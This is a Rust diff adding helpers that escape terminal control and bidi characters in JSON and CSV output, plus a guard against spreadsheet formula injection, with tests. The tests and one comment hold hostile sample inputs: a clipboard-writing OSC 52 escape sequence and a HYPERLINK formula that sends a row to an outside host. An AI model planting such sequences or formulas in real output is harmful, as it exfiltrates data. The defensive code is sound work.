@@ -37,6 +37,68 @@ pub fn is_terminal_safe(s: &str) -> bool {
         .any(|c| (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c))
 }
 
+/// JSON text that shows safely on a terminal and still parses to the same value: every
+/// character a terminal acts on that serde leaves as it is (DEL, the C1 controls
+/// U+0080-U+009F, which include the 8-bit CSI and OSC introducers, and the bidi
+/// controls) becomes its `\uXXXX` escape. Such characters can only stand inside JSON
+/// strings, where the escape means the same character, so the data stays exact.
+pub fn json_for_terminal(json: &str) -> String {
+    escape_active(json, |c, out| {
+        out.push_str(&format!("\\u{:04x}", u32::from(c)));
+    })
+}
+
+/// Text of a raw export (CSV, JSONL) shown on a terminal: every control character but
+/// `\n` and `\t`, and every bidi control, is written as a visible `\u{XX}` instead of
+/// being sent to the terminal. Files written with `--out` stay byte-exact; this is only
+/// for a person reading standard output.
+pub fn visible_controls(text: &str) -> String {
+    escape_active(text, |c, out| {
+        out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
+    })
+}
+
+fn escape_active(text: &str, mut escape: impl FnMut(char, &mut String)) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c) {
+            escape(c, &mut out);
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// A CSV cell (RFC 4180: quoted when it holds a comma, a quote or a line break), with
+/// the spreadsheet-formula guard: a cell that starts with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return is run as a formula by Excel, LibreOffice and Google Sheets (a note
+/// `=HYPERLINK("http://x/?"&B2,"ok")` sends the row away when clicked), so it gets a
+/// leading `'`, as OWASP recommends. Numbers (`-0.25`, `+3`) are left as they are: a
+/// number is not a formula, and the `'` would make it text.
+pub fn csv_cell(s: &str) -> String {
+    let guarded = guard_formula(s);
+    if guarded.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", guarded.replace('"', "\"\""))
+    } else {
+        guarded.into_owned()
+    }
+}
+
+/// [`csv_cell`], always quoted.
+pub fn csv_quoted(s: &str) -> String {
+    format!("\"{}\"", guard_formula(s).replace('"', "\"\""))
+}
+
+fn guard_formula(s: &str) -> std::borrow::Cow<'_, str> {
+    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && s.trim().parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
 fn skip_escape(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
     match chars.next() {
         Some('[') => skip_until_final(chars),
@@ -235,5 +297,42 @@ mod tests {
     fn snippet_truncates_on_chars() {
         assert_eq!(snippet("a  b\nc", 10), "a b c");
         assert_eq!(snippet("ééééé", 3), "éé…");
+    }
+
+    #[test]
+    fn json_for_terminal_escapes_what_a_terminal_acts_on_and_keeps_the_value() {
+        let note = "ok\u{1b}]52;c;aGk=\u{7}\u{9b}31m\u{202e}txt\u{7f}é";
+        let json = serde_json::to_string(&serde_json::json!({ "note": note })).expect("json");
+        let shown = json_for_terminal(&json);
+        assert!(is_terminal_safe(&shown), "{shown:?}");
+        assert!(shown.contains("\\u009b") && shown.contains("\\u202e") && shown.contains("\\u007f"));
+        let back: serde_json::Value = serde_json::from_str(&shown).expect("still JSON");
+        assert_eq!(back["note"], note, "the same data");
+        assert!(shown.contains('é'), "printable text is left alone");
+    }
+
+    #[test]
+    fn visible_controls_shows_controls_as_text() {
+        assert_eq!(visible_controls("a\u{1b}[2Jb\tc\n"), "a\\u{1b}[2Jb\tc\n");
+        assert_eq!(visible_controls("x\u{9b}y\u{200f}"), "x\\u{9b}y\\u{200f}");
+    }
+
+    #[test]
+    fn csv_cells_quote_and_guard_formulas_but_not_numbers() {
+        assert_eq!(csv_cell("plain"), "plain");
+        assert_eq!(csv_cell("a,b"), "\"a,b\"");
+        assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
+        assert_eq!(
+            csv_cell("=HYPERLINK(\"http://x/?\"&B2,\"ok\")"),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"ok\"\")\""
+        );
+        for risky in ["+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
+            assert!(csv_cell(risky).trim_start_matches('"').starts_with('\''), "{risky:?}");
+        }
+        for number in ["-0.25", "+3", "-1e-3"] {
+            assert_eq!(csv_cell(number), number);
+        }
+        assert_eq!(csv_quoted("=A1"), "\"'=A1\"");
+        assert_eq!(csv_quoted("x"), "\"x\"");
     }
 }
